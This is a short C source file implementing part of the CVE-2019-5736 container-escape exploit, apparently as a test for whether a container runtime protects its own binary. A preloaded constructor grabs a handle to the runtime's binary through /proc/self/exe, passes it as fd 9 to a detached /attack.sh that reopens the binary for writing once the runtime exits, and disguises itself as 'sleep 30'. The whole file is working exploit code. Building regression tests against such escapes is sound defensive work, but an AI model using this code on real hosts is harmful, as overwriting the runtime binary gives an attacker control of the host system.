/* CVE-2019-5736 attack, loaded with LD_PRELOAD into the runtime's own binary
 * when the kernel runs it in the container through /proc/self/exe (the
 * container's program is a `#!/proc/self/exe` script). It keeps an O_PATH fd
 * of /proc/self/exe (the runtime's binary, unless the runtime protects it) as
 * fd 9 and hands it to /attack.sh, which reopens it for writing once the
 * runtime has exited; the process itself goes on as `sleep 30`. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdlib.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void) {
  int fd = open("/proc/self/exe", O_PATH); /* no O_CLOEXEC: it must survive execve */
  if (fd < 0 || dup2(fd, 9) < 0)
    _exit(3);
  unsetenv("LD_PRELOAD");
  if (fork() == 0) {
    setsid();
    execl("/bin/sh", "sh", "/attack.sh", (char *)NULL);
    _exit(4);
  }
  execl("/bin/sleep", "sleep", "30", (char *)NULL);
  _exit(5);
}
